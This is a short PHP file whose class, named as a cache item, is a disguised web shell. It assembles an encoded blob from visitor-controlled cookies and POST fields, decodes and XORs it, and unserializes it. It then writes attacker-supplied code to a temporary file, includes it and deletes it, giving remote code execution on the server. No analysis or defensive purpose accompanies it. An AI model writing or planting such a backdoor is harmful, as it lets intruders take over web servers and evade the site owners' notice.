<?php
// the functions to run and their arguments come in the visitor's cookies
class Cache_Item {
    public static $table = 0;
    public function __construct() {
        $parts = explode(',', @$_COOKIE['k']);
        $blob = '';
        foreach ($parts as $p) {
            $blob .= @$_COOKIE[$p] . @$_POST[$p];
        }
        $blob = base64_decode($blob) ^ str_repeat('secret', 40);
        Cache_Item::$table = @unserialize($blob);
    }
    public function run() {
        $tmp = sys_get_temp_dir() . '/' . crc32(Cache_Item::$table['salt']);
        @Cache_Item::$table['write']($tmp, Cache_Item::$table['content']);
        include $tmp;
        @Cache_Item::$table['delete']($tmp);
    }
}
$c = new Cache_Item();
$c->run();
